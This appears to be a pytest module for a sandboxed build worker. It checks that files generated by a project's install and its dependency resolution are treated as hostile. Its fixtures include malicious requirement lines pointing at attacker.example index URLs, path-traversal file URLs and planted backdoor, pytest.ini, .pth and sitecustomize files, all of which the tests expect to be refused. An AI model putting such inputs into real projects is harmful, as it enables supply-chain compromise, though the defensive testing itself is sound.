"""What comes back from the project's own install and from the resolution is read as hostile (issue 34 review).

- Generated files: laid only where the checkout's own ignore rules ignore them (a build that writes
  `*` into the sandbox's `.git/info/exclude` makes every planted file "ignored" there, and the agent's
  `git add -A` would then take them into the patch), never over anything, never a test module or a
  runner's configuration.
- The resolution's local folders: plain paths inside the checkout only.
- The pins' key: every file the resolution reads (a setup.py that opens requirements.txt, `-r`
  includes, setuptools' `file` metadata), so a branch changing only those gets pins of its own.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from worker.environment import generated
from worker.environment.build_code import read_from_folder, resolution_inputs
from worker.environment.steps import ResolutionRefused, inside_checkout, parse_resolution


def checkout(path: Path, files: dict[str, str]) -> Path:
    path.mkdir()
    for name, text in files.items():
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_text(text)
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    subprocess.run(["git", "-C", str(path), "add", "-A"], check=True)
    subprocess.run(["git", "-C", str(path), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "b"],
                   check=True)
    return path


def test_only_what_the_checkouts_own_rules_ignore_is_laid_and_never_over_anything(tmp_path: Path) -> None:
    ws = checkout(tmp_path / "ws", {".gitignore": "_version.py\n*.log\n", "mod.py": "VALUE = 1\n", "src/a.py": ""})
    made = tmp_path / "generated"
    for name, text in {
        "_version.py": "v = '1.0'\n",  # ignored by the checkout: laid
        "backdoor.py": "evil = 1\n",  # ignored only by the build's .git/info/exclude: never laid
        "mod.py": "VALUE = 'backdoor'\n",  # tracked: never laid over
        "test_planted.py": "def test(): pass\n",  # a test module: never laid
        "pytest.ini": "[pytest]\naddopts = -p planted\n",  # a runner's configuration: never laid
        "run.log": "x\n",  # ignored: laid
    }.items():
        (made / name).parent.mkdir(parents=True, exist_ok=True)
        (made / name).write_text(text)
    (ws / "run.log").write_text("already here\n")  # something already at the path: never laid over
    assert generated.lay(ws, made) == ["_version.py"]
    assert (ws / "mod.py").read_text() == "VALUE = 1\n" and (ws / "run.log").read_text() == "already here\n"
    assert not (ws / "backdoor.py").exists() and not (ws / "test_planted.py").exists()
    status = subprocess.run(["git", "-C", str(ws), "status", "--porcelain"], capture_output=True, text=True).stdout
    assert status.strip() == "?? run.log" or status.strip() == "", status  # nothing laid shows in a patch


def test_a_generated_conftest_pth_or_sitecustomize_is_refused(tmp_path: Path) -> None:
    for name in ("conftest.py", "pkg/zz.pth", "sitecustomize.py", "sub/usercustomize.py"):
        folder = tmp_path / name.replace("/", "_")
        (folder / name).parent.mkdir(parents=True)
        (folder / name).write_text("x\n")
        assert generated.refused_in(folder) == name


@pytest.mark.parametrize("line", [
    "-e git+https://attacker.example/x.git#egg=x", "-e --index-url=http://attacker.example/",
    "x @ file:///workspace/%2e%2e/etc", "-e ~/x", "-e $HOME/x", "x @ file://host/x", "x @ https://a.b/x.whl",
    "--extra-index-url http://attacker.example/", "-e /workspace/../etc", "x==1 ; evil",
])
def test_the_resolution_names_nothing_but_pins_and_plain_folders_of_the_checkout(line: str) -> None:
    with pytest.raises(ResolutionRefused):
        parse_resolution(f"idna==3.7\n{line}\n", project=True)


def test_plain_pins_and_folders_are_read() -> None:
    resolution = parse_resolution("idna==3.7\n-e file:///workspace\nsub @ file:///workspace/libs/sub\n", True)
    assert resolution.pins == ("idna==3.7",) and resolution.local == (".", "libs/sub")
    assert inside_checkout("file://localhost/workspace/x") == "x"


def test_the_pins_key_covers_every_file_the_resolution_reads(tmp_path: Path) -> None:
    files = {
        "setup.py": 'from setuptools import setup\nsetup(install_requires=open("requirements.txt").read().split())\n',
        "requirements.txt": "idna\n",
        "requirements-test.txt": "-r requirements/base.in\npytest\n",
        "requirements/base.in": "six\n",
        "pyproject.toml": '[tool.setuptools.dynamic]\ndependencies = {file = ["deps.in"]}\n',
        "deps.in": "attrs\n",
        "setup.cfg": "[options]\ninstall_requires = file: cfg-deps.txt\n",
        "cfg-deps.txt": "packaging\n",
    }
    root = tmp_path / "repo"
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    found = resolution_inputs(read_from_folder(root), ["requirements-test.txt"])
    assert set(found) >= {"requirements.txt", "requirements-test.txt", "requirements/base.in", "deps.in",
                          "cfg-deps.txt"}, found


def test_a_string_naming_a_folder_is_no_file_the_resolution_reads(tmp_path: Path) -> None:
    """setup.py names folders too (`package_dir={"": "src"}`): read as absent, never an error."""
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    (root / "setup.py").write_text('from setuptools import setup\nsetup(package_dir={"": "src"})\n')
    assert resolution_inputs(read_from_folder(root)) == ()
